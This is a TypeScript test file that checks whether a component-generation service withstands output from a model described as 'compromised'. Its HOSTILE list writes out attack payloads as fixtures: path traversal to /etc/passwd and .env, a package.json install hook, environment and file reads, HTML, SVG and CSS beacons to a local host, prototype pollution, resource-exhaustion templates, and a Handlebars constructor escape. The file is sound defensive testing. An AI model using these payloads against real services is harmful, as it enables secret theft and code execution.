// @module-tag long
import { existsSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { answerWith, CLEAN_ALERT, type Written } from "./generated-components.ts";
import { casesOf } from "./long-form.ts";
import { SECRET_KEY } from "./open-service.ts";
import { sharedChromium } from "./shared-chromium.ts";
import { useGeneration } from "./use-generation.ts";

/** A place nobody may ask; what asks it is counted. */
const away = createServer((request, response) => {
  reached.push(request.url ?? "");
  response.end("x");
});
const reached: string[] = [];
let host = "";

const files = (more: Record<string, unknown>): Written => ({
  ...CLEAN_ALERT,
  files: { ...(CLEAN_ALERT.files as object), ...more },
});
const react = (code: string): Written => ({ ...CLEAN_ALERT, files: { "alert.tsx": code } });

/** What a model that was taken over writes. */
const HOSTILE: [what: string, answer: () => string, renderer?: "react" | "nunjucks" | "handlebars"][] = [
  ["files outside of its folder", () => answerWith(files({ "../badge/badge.html": "taken", "/etc/passwd": "x" }))],
  [
    "names that climb, hide or stand for devices",
    () =>
      answerWith(files({ "a/../../x.css": "", ".env": "X=1", "con.html": "", "..\\x.css": "", "%2e%2e%2fx.css": "" })),
  ],
  [
    "files that configure",
    () =>
      answerWith(
        files({
          "package.json": '{"scripts":{"prepare":"touch /tmp/taken"}}',
          "tsconfig.json": "{}",
          "vite.config.ts": "x",
          "service.config.json": "{}",
        }),
      ),
  ],
  [
    "scripts that declare",
    () =>
      answerWith(
        files({
          "alert.decl.ts": "export default { id: 'alert', x: fetch('http://' + location) }",
          "alert.service.js": "while (true);",
        }),
      ),
  ],
  [
    "a script without an end",
    () => answerWith(react("while (true); export default function Alert() { return null; }")),
    "react",
  ],
  [
    "a template without an end",
    () =>
      answerWith({
        ...CLEAN_ALERT,
        files: {
          "alert.njk":
            "{% for a in range(0, 99999) %}{% for b in range(0, 99999) %}{% set c = b %}{% endfor %}{% endfor %}",
        },
      }),
    "nunjucks",
  ],
  [
    "reads of the environment and of files",
    () =>
      answerWith(
        react(
          'import { readFileSync } from "node:fs"; const all = JSON.stringify(process.env) + readFileSync("/etc/passwd"); export default function Alert() { return <p>{all}</p>; }',
        ),
      ),
    "react",
  ],
  [
    "imports of keys and of the registry",
    () =>
      answerWith(
        react(
          'import key from "../../../../../../etc/passwd?raw"; import x from "../../.env"; export default function Alert() { return <p>{key}{x}</p>; }',
        ),
      ),
    "react",
  ],
  [
    "a network",
    () =>
      answerWith(
        react(
          `fetch("${host}/code"); new WebSocket("${host}/socket"); import("${host}/module.js"); export default function Alert() { return <img src="${host}/picture.png" alt="" />; }`,
        ),
      ),
    "react",
  ],
  [
    "a hundred megabytes",
    () =>
      answerWith({
        ...CLEAN_ALERT,
        files: {
          "alert.njk": "{% for a in range(0, 10000) %}{% for b in range(0, 10000) %}{{ text }}{% endfor %}{% endfor %}",
        },
      }),
    "nunjucks",
  ],
  [
    "a script in a drawing",
    () =>
      answerWith(
        files({
          "icon.svg": `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${host}/svg')"><script>fetch('${host}/svg')</script><image href="${host}/image"/><path d="M0 0h8v8H0z"/></svg>`,
        }),
      ),
  ],
  [
    "styles from elsewhere",
    () =>
      answerWith(
        files({
          "alert.css": `@import url("${host}/style.css"); .alert { background: url(${host}/bg.png); } @font-face { font-family: x; src: url(//${host.slice(7)}/font.woff2); }`,
        }),
      ),
  ],
  [
    "markup that calls home",
    () =>
      answerWith(
        files({
          "alert.html": `<script src="${host}/x.js"></script><img src="${host}/i" alt="" onerror="fetch('${host}/e')"><iframe src="${host}/f" title="x"></iframe><link rel="stylesheet" href="${host}/l"><meta http-equiv="refresh" content="0;url=${host}/m"><form action="${host}/form"></form>`,
        }),
      ),
  ],
  [
    "JSON deeper than anybody reads",
    () => `{"declaration": ${"[".repeat(100_000)}${"]".repeat(100_000)}, "files": {}}`,
  ],
  [
    "keys of prototypes",
    () =>
      '{"declaration": {"title": "Alert", "__proto__": {"admin": true}, "previews": {"default": {"values": {}}}}, "files": {"__proto__": "x", "constructor": "y", "alert.html": "<p>x</p>"}}',
  ],
  ["more than anybody reads", () => JSON.stringify({ ...CLEAN_ALERT, files: { "alert.html": "x".repeat(3 << 20) } })],
  [
    "a thousand files",
    () =>
      answerWith(
        files(
          Object.fromEntries(Array.from({ length: 1_000 }, (_, index) => [`file-${index}.css`, ".a { color: red }"])),
        ),
      ),
  ],
  [
    "helpers of templates that reach out",
    () =>
      answerWith({
        ...CLEAN_ALERT,
        files: {
          "alert.hbs":
            '{{#with "s" as |string|}}{{#with "e"}}{{lookup string.sub "constructor"}}{{#with (string.sub.apply 0 "return process.env")}}{{this}}{{/with}}{{/with}}{{/with}}{{constructor.constructor "return process"}}',
        },
      }),
    "handlebars",
  ],
];

describe("a generation by a compromised model", () => {
  const { first, answers, head, draft, draftsOf, replica, model } = useGeneration("sqlite", async () => {
    const chromium = await sharedChromium();
    return { CHROMIUM_PATH: chromium.executablePath, ...chromium.env };
  });
  beforeAll(async () => {
    await new Promise<void>((resolve) => away.listen(0, "127.0.0.1", resolve));
    host = `http://127.0.0.1:${(away.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    away.close();
  });

  it.each(casesOf(HOSTILE, 6))("changes nothing with %s", async (what, write, renderer) => {
    answers(() => ({ text: write() }));
    const before = await head();
    const wish = { componentName: "Alert", behaviorPrompt: what, maxIterations: 1, ...(renderer ? { renderer } : {}) };
    const id = await first().ask(wish);
    // Others are answered meanwhile.
    let isOver = false;
    const others = (async () => {
      while (!isOver) {
        expect((await fetch(`${first().url}/api/service/health`)).status).toBeLessThan(500);
        await sleep(20);
      }
    })();
    const job = await first().whenOver(id);
    isOver = true;
    await others;
    expect(job.status).toBe("complete");
    // A drawing is made safe; all else is told.
    expect([what, job.validationResults.some(({ severity }) => severity === "error")]).toEqual([
      what,
      what !== "a script in a drawing",
    ]);
    expect(await head()).toBe(before);
    expect(await draftsOf(id)).toHaveLength(1);
    expect(reached).toEqual([]);
    const [iteration] = (await draft(job.draftId)).document.iterations;
    for (const { path, hash } of iteration.files) {
      expect(path).toMatch(/^(?:dist\/)?[a-z0-9][a-z0-9._-]*$/);
      const text = Buffer.from((await replica().store.blobs.get(hash)) ?? []).toString("latin1");
      expect(text).not.toContain(SECRET_KEY);
      expect(text).not.toMatch(/root:x:0/);
      if (path.endsWith(".svg")) expect(text).not.toMatch(/script|onload|http:\/\/127/);
    }
    expect(JSON.stringify(job)).not.toMatch(new RegExp(`${SECRET_KEY}|root:x:0|/tmp/`));
    expect(JSON.stringify(job)).not.toContain(process.cwd());
    expect(existsSync("/tmp/taken")).toBe(false);
    expect(Object.prototype).not.toHaveProperty("admin");
  });

  it("tells a model no secret", () => {
    for (const { text } of model().asked) expect(text).not.toContain(SECRET_KEY);
  });

  it("builds valid components afterwards", async () => {
    answers(() => ({ text: answerWith(CLEAN_ALERT) }));
    const job = await first().whenOver(await first().ask({ componentName: "Alert", behaviorPrompt: "Sound." }));
    expect([job.status, job.validationResults.filter(({ severity }) => severity !== "info")]).toEqual(["complete", []]);
    const [{ files: made }] = (await draft(job.draftId)).document.iterations;
    expect(made.some(({ role }: { role: string }) => role === "screenshot")).toBe(true);
  });
});
